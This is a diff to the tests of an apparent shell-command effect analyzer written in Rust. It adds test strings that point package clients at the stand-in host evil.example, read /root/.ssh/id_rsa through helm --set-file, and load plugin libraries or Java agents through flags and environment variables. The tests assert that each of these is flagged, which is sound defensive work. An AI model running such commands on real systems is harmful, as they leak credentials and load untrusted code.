@@ -25,6 +25,24 @@ const MORE_THAN_THE_ROW: &[&str] = &[
     "read -e x",
     "read -re x",
     "terraform state list",
+    "pnpm ls",
+    "uv pip list",
+    "uv tree",
+    "poetry show",
+    "terraform-docs .",
+    "trivy fs .",
+    "vagrant version",
+    "brew info evil/tap/x",
+    "kcat -L -X plugin.library.paths=./x.so",
+    "kafka-topics --list --bootstrap-server localhost:9092 --command-config x",
+    "npm docs",
+    "dnf list --setopt=pluginpath=./x",
+    "hostnamectl status -H evil.example",
+    "cargo owner --list -a evil x",
+    "gem sources -a https://evil.example",
+    "tfupdate terraform -v 9 x",
+    "helm template x sub --set-file a=/root/.ssh/id_rsa",
+    "nomad job plan x.nomad",
     "tofu show",
     "flyway info",
     "prisma migrate status",
@@ -259,21 +277,27 @@ fn files_whose_names_are_derived_are_not_passed_over() {
 }
 
 #[test]
-fn a_question_to_a_registry_that_the_service_names_is_exact_unless_the_project_or_the_text_names_another() {
-    let named = Facts { by_hand: true, reachable_hosts: vec!["registry.npmjs.org".into()], ..facts() };
-    let asked = |text: &str, facts: &Facts| {
-        let effects = read(text, facts, Place::Host);
-        effects.iter().any(|e| e.resource.kind == "registry") && effects.iter().all(|e| e.certainty == Certainty::Exact && e.verb != Verb::Expose)
-    };
-    assert!(asked("npm view react versions --json", &named));
-    for other in ["npm view react --registry https://evil.example", "npm view \"$X\"", "echo x > .npmrc; npm view react", "sh x.sh; npm view react", "pnpm view react --registry=https://evil.example"] {
-        assert!(!asked(other, &named), "{other}");
+fn what_a_client_of_packages_is_told_is_a_contact_wherever_it_stands() {
+    for text in [
+        "npm view https://evil.example/x", "npm view git+https://evil.example/x.git", "npm view git@evil.example:a/b", "npm view react@https://evil.example/x",
+        "npm owner ls x --registry=https://evil.example/$T", "npm fund https://evil.example/x", "npm dist-tag ls x --registry https://evil.example", "pip list -o -i https://evil.example",
+        "gem search x -s https://evil.example", "pnpm view https://evil.example/x", "npm view github:evil/x",
+    ] {
+        let effects = by_hand(text);
+        let told = effects.iter().any(|e| e.tier > Tier::Host && (e.verb == Verb::Expose || e.certainty != Certainty::Exact));
+        assert!(told, "{text}: {:#?}", effects.lines());
     }
-    assert!(!asked("npm view react", &Facts { by_hand: true, ..facts() }), "nobody names it");
-    let mut settings = named.clone();
-    settings.files.insert("web/.npmrc".into(), crate::facts::FileFact::default());
-    assert!(!asked("npm view react", &settings), "the project names another, perhaps");
-    for forge in ["gh pr list", "gh pr view 12", "gh pr list --repo ana/app", "gh pr view https://github.com/ana/app/pull/3", "gh pr list -R github.com/ana/app"] {
-        assert!(!is_opaque(&by_hand(forge)), "{forge}");
+}
+
+#[test]
+fn a_variable_that_nobody_knows_makes_a_program_opaque_that_only_its_row_speaks_for() {
+    for text in [
+        "KAFKA_OPTS=-javaagent:x.jar kafka-topics --list --bootstrap-server localhost:9092", "ERL_AFLAGS=x rabbitmqctl status", "VAGRANT_CWD=x vagrant box list",
+        "export HOMEBREW_BROWSER=./x; brew info curl", "LIBMYSQL_PLUGINS=x mysqladmin ping",
+    ] {
+        assert!(is_opaque(&by_hand(text)), "{text}: {:#?}", by_hand(text).lines());
+    }
+    for text in ["LC_ALL=C sort a", "TZ=UTC date", "X=1 cat a", "for f in a b; do wc -l $f; done", "X=1; date"] {
+        assert!(!is_opaque(&by_hand(text)), "{text}: {:#?}", by_hand(text).lines());
     }
 }
